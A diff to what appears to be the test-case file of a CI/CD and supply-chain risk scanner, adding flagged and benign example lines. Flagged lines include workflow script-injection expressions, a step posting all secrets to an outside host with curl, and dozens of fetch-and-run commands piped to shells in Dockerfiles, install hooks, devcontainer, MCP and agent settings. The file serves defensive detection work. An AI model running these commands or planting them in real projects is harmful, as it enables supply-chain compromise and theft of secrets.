@@ -4,7 +4,10 @@ export interface Cases {
   quiet: readonly (readonly [path: string, text: string])[];
 }
 
+const raw = String.raw;
 const WORKFLOW = '.github/workflows/ci.yml';
+const RUN = 'risk-fetch-and-run';
+const BY_HAND = 'risk-pipe-to-shell';
 
 /** Cases of databases, builds, containers, clusters and clouds. */
 export const operationCases: Record<string, Cases> = {
@@ -79,6 +82,47 @@ export const operationCases: Record<string, Cases> = {
         'action.yml',
         `    - run: ./x --title="\${{ github.event.pull_request.title }}"`,
       ],
+      ...[
+        `      - run: echo "\${{ github.event.issue['title'] }}"`,
+        `      - run: echo "\${{ github [ 'event' ] . issue . body }}"`,
+        `      - run: echo "\${{ GITHUB.event.Comment.body }}"`,
+        `      - run: echo '\${{ toJSON(github.event.pull_request) }}'`,
+        `      - run: echo '\${{ toJson(github) }}'`,
+        `      - run: echo "\${{ github.event.head_commit.author.email }}"`,
+        `      - run: echo "\${{ github.event.commits[0].message }}"`,
+        `      - run: echo "\${{ format('{0} {1}', 'a', github.event.review.body) }}"`,
+        `      - {name: a, run: "echo \${{ github.event.discussion.title }}"}`,
+        `      - "run": echo \${{ github.event.issue.title || 'none' }}`,
+        `        with:\n          script: |\n            core.info("\${{ github.event.issue.body }}")`,
+      ].map((text) => ['risk-workflow-script-injection', WORKFLOW, text] as const),
+      ...[
+        `          ref: \${{ github['event'].pull_request.head.sha }}`,
+        `          ref: \${{ github.event.pull_request.head.REF }}`,
+        `          repository: \${{ github.event.pull_request.head.repo.full_name }}`,
+        `          ref: refs/pull/\${{ github.event.number }}/head`,
+        `    env:\n      SHA: \${{ github.event.pull_request.head.sha }}\n    steps:\n      - run: git fetch origin && git checkout $SHA`,
+        `    env:\n      SHA: \${{ github.head_ref }}\n    steps:\n      - with:\n          ref: \${{ env.SHA }}`,
+        '      - run: gh pr checkout 12',
+      ].map((text) => {
+        const head = 'on: pull_request_target\njobs:\n  a:\n';
+        return ['risk-workflow-untrusted-checkout', WORKFLOW, `${head}${text}`] as const;
+      }),
+      [
+        'risk-workflow-secrets-sent',
+        WORKFLOW,
+        `      - env:\n          S: \${{ toJSON( secrets ) }}\n        run: curl -d "$S" https://acme.io`,
+      ],
+      [
+        'risk-workflow-variable-injection',
+        WORKFLOW,
+        `    env:\n      T: \${{ github.event.issue.title }}\n    steps:\n      - run: echo "\${{ env.T }}"`,
+      ],
+      [
+        'risk-gitlab-script-injection',
+        '.gitlab-ci.yml',
+        '    - sh -c "echo $CI_MERGE_REQUEST_TITLE"',
+      ],
+      ['risk-package-escaped-name', 'package.json', raw`    "post\u0069nstall": "node a.js"`],
       [
         'risk-workflow-branch-injection',
         WORKFLOW,
@@ -109,6 +153,14 @@ export const operationCases: Record<string, Cases> = {
       ],
       [WORKFLOW, `      - run: echo "\${{ github.event.pull_request.number }} \${{ github.sha }}"`],
       [WORKFLOW, `        if: contains(github.event.head_commit.message, 'x')`],
+      [
+        WORKFLOW,
+        `on: pull_request\njobs:\n  a:\n    env:\n      SHA: \${{ github.event.pull_request.head.sha }}\n    steps:\n      - run: git checkout $SHA`,
+      ],
+      [WORKFLOW, `      - run: echo "\${{ github['event']['number'] }} \${{ env.NODE }}"`],
+      [WORKFLOW, `      - {name: a, run: "echo \${{ github.sha }}"}`],
+      ['.gitlab-ci.yml', '    - notify "$CI_MERGE_REQUEST_TITLE"'],
+      ['package.json', raw`    "description": "caf\u00e9"`],
       [WORKFLOW, 'permissions:\n  contents: write'],
       [WORKFLOW, '      - uses: some/action@0123456789abcdef0123456789abcdef01234567 # v2'],
       [WORKFLOW, `          TOKEN: \${{ secrets.GITHUB_TOKEN }}`],
@@ -116,11 +168,6 @@ export const operationCases: Record<string, Cases> = {
   },
   pipelines: {
     found: [
-      [
-        'risk-pipe-to-shell',
-        '.gitlab-ci.yml',
-        '    - curl -sSL https://install.acme.io | bash -s -- --yes',
-      ],
       [
         'risk-download-unverified',
         'Dockerfile',
@@ -139,6 +186,69 @@ export const operationCases: Record<string, Cases> = {
       [WORKFLOW, '        continue-on-error: false'],
       ['bin/sync.sh', 'git push --force-with-lease origin feature'],
       ['Jenkinsfile', `    sh 'deploy'`],
+    ],
+  },
+  fetchAndRun: {
+    found: [
+      [RUN, '.gitlab-ci.yml', '    - curl -sSL https://install.acme.io | bash -s -- --yes'],
+      [RUN, 'Dockerfile', 'RUN curl -fsSL https://acme.io/s.sh -o s.sh && sh s.sh'],
+      [RUN, 'Dockerfile.dev', 'RUN wget https://acme.io/s.sh; chmod +x s.sh; ./s.sh'],
+      [RUN, '.husky/pre-commit', 'wget -qO- https://acme.io/check.sh | bash'],
+      [RUN, 'deploy/a.service', `ExecStart=/bin/sh -c "curl -s https://acme.io/a | sh"`],
+      [RUN, '.pnpmfile.cjs', `require('child_process').execSync('curl https://acme.io/a | sh')`],
+      [RUN, 'setup.py', `exec(urlopen('https://acme.io/hook.py').read())`],
+      [RUN, 'setup.py', `exec(requests.get('https://acme.io/hook.py').text)`],
+      [RUN, 'build.rs', `    Command::new("sh").arg("-c").arg("curl https://acme.io/a | sh");`],
+      [RUN, 'binding.gyp', `  'sources': [ '<!(curl -s https://acme.io/a.sh | sh)' ],`],
+      [RUN, '.mcp.json', `  "args": ["-c", "curl -s https://acme.io/mcp.sh | sh"]`],
+      [RUN, '.claude/settings.json', `  "command": "bash <(curl -s https://acme.io/hook)"`],
+      [
+        RUN,
+        '.devcontainer/devcontainer.json',
+        `  "postCreateCommand": "curl https://acme.io | bash"`,
+      ],
+      [RUN, '.vscode/tasks.json', `  "command": "eval "$(curl -fsSL https://acme.io/x)""`],
+      [RUN, '.envrc', 'source <(curl -s https://acme.io/env)'],
+      [RUN, WORKFLOW, '      - run: x=$(curl -s https://acme.io/a); eval "$x"'],
+      [RUN, WORKFLOW, '      - run: python3 <(curl -s https://acme.io/a.py)'],
+      [
+        RUN,
+        WORKFLOW,
+        '      - run: iex ((New-Object Net.WebClient).DownloadString("https://a.io"))',
+      ],
+      [RUN, WORKFLOW, '      - run: irm https://acme.io/i.ps1 | iex'],
+      [RUN, 'Jenkinsfile', `    sh 'curl -s https://acme.io/a | sudo -E python3 -'`],
+      ['risk-generate-fetch-and-run', 'gen.go', '//go:generate sh -c "curl https://acme.io | sh"'],
+      ['risk-npm-script-shell', '.npmrc', 'script-shell=./tools/sh'],
+      [
+        'risk-install-download',
+        'package.json',
+        `    "prepare": "curl https://acme.io/a.sh -o a.sh"`,
+      ],
+      [BY_HAND, 'tools/setup.sh', 'curl -sSL https://install.acme.io | bash'],
+      [BY_HAND, 'Makefile', '\tcurl -o a.sh https://acme.io/a.sh && bash a.sh'],
+      [BY_HAND, 'src/update.py', `exec(urlopen(address).read())`],
+      [BY_HAND, 'src/update.js', `eval(await (await fetch(address)).text());`],
+      [BY_HAND, 'lib/update.rb', `eval(URI.open(address).read)`],
+    ],
+    quiet: [
+      ['Dockerfile', 'RUN curl -fsSL https://acme.io/a.tgz | tar -xz -C /opt'],
+      ['Dockerfile', 'RUN curl -fsSLo a.sh https://a.io/a && sha256sum -c a.sum && sh a.sh'],
+      ['Dockerfile', 'RUN wget -O /usr/bin/kubectl https://acme.io/kubectl'],
+      ['Dockerfile', '# RUN curl https://acme.io | sh'],
+      ['Dockerfile', 'RUN apt-get update && apt-get install -y curl && bash setup.sh'],
+      [WORKFLOW, '      - run: curl -s https://acme.io/a.json | jq .version'],
+      [WORKFLOW, '      - run: curl -fsS https://acme.io/health && sh smoke.sh'],
+      [WORKFLOW, '      - run: npx playwright install --with-deps'],
+      ['.mcp.json', `  "command": "npx", "args": ["-y", "@acme/docs-server"]`],
+      ['.devcontainer/devcontainer.json', `  "postCreateCommand": "npm ci"`],
+      ['setup.py', `text = urlopen('https://acme.io/a.json').read()`],
+      ['.npmrc', 'script-shell=/bin/bash'],
+      ['gen.go', '//go:generate go run ./gen'],
+      ['.husky/pre-push', 'npm test'],
+      ['build.rs', '    println!("cargo:rerun-if-changed=build.rs");'],
+      ['src/load.js', 'const answer = await fetch(address); evaluate(answer);'],
+      ['README.md', 'curl -sSL https://install.acme.io | bash'],
     ],
   },
   containers: {
